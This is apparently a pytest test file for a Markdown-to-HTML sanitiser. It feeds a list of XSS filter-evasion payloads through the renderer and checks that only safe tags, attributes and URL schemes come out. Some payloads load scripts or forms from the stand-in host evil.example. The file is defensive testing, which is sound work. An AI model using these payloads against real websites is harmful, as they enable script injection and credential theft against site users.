"""Comments as HTML: what writers need comes out, what attackers need does not."""

from __future__ import annotations

import time
from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from paddock.markdown import MAX_MENTIONS, render_card, render_markdown

# After OWASP's list of filter evasions, and what is special to Markdown.
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<img src=x:x onerror\n=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    '<audio src="javascript:alert(1)" controls></audio>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a id="location" name="cookie" target=_top href=x>x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61)",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](x)',
    '[x](y "onmouseover=alert(1) a=\\"")',
    "<javascript:alert(1)>",
    "`<script>`</script><script>alert(1)//`",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| a |\n|---|\n| <script>alert(1)</script> |",
]
_ELEMENTS = """
    a abbr audio b blockquote
    br code del details div em h1 h2 h3 h4 h5 h6 hr i img kbd li ol p pre s
    span strong sub summary sup table tbody td tfoot th thead tr ul video
"""
_ATTRIBUTES = "href title src alt width height controls open start align colspan rowspan rel"


class Judge(HTMLParser):
    """Reads HTML as a browser does, roughly, and refuses what could run."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in _ELEMENTS.split(), tag
        for name, value in attrs:
            assert name in _ATTRIBUTES.split(), name
            if name in {"href", "src"}:
                scheme = (value or "").partition(":")[0].lower()
                is_plain = ":" not in (value or "") or "/" in scheme
                assert is_plain or scheme in {"http", "https", "mailto"}, value


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_comes_out(attack: str) -> None:
    Judge().feed(render_markdown(attack).html)


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "\n\n", "> ", "- ", "`", "*", "<b>", "[", "](x)"]), max_size=6
    )
)
def test_nor_does_any_mixture_of_them(pieces: list[str]) -> None:
    Judge().feed(render_markdown("".join(pieces)).html)


def test_what_writers_need_comes_out() -> None:
    html = render_markdown(
        "# Title\n\n*a* ~~b~~ `c` [d](https://e.example 'f')\n\n| g |\n|---|\n| h |\n\n"
        '<details><summary>i</summary>j</details>\n\n<audio controls src="https://k.example/l.wav">'
        "</audio>\n\n![m](/uploads/n.png)"
    ).html
    for part in ("<h1>", "<em>", "<s>", "<code>", "<td>h", "<details><summary>i", 'alt="m"'):
        assert part in html
    assert 'src="https://k.example/l.wav"' in html
    assert 'rel="nofollow noopener noreferrer ugc"' in html


def test_names_are_called_outside_of_code_and_addresses() -> None:
    text = "@alice and (@bob-x), not a@c.example, x/@d, `@e`, @alice. @f.\n\n```\n@g\n```\n\n> @h"
    assert render_markdown(text).mentions == ("alice", "bob-x", "f", "h")
    assert len(render_markdown(" ".join(f"@u{n}" for n in range(500))).mentions) == MAX_MENTIONS


@pytest.mark.parametrize(
    "piece", ["[", "*a_", "> ", "![](", "<a", "`", "- ", "<b><p>", "<table>", "[a]: b\n", "***a "]
)
def test_no_text_takes_long(piece: str) -> None:
    started = time.process_time()
    render_markdown((piece * 65_536)[:65_536])
    assert time.process_time() - started < 5


@pytest.mark.parametrize("render", [render_card, lambda text: render_markdown(text).html])
def test_cells_are_aligned_without_a_style(render: Callable[[str], str]) -> None:
    html = render("| a | b |\n|---:|:-:|\n| 1 | 2 |\n")
    assert "style" not in html
    assert '<td align="right">1</td>' in html
    assert '<th align="center">b</th>' in html


@pytest.mark.parametrize("render", [render_card, lambda text: render_markdown(text).html])
@pytest.mark.parametrize("use", ["[a] ", "![a] "])
def test_a_reference_repeats_no_long_address(render: Callable[[str], str], use: str) -> None:
    short = render(f"[a]: /{'x' * 1500}\n\n" + use * 10_000)
    assert len(short) < 1_500_000
    assert "/xxx" in short
    assert len(render(f"[a]: /{'x' * 30_000} 't'\n\n" + use * 10_000)) < 1_500_000
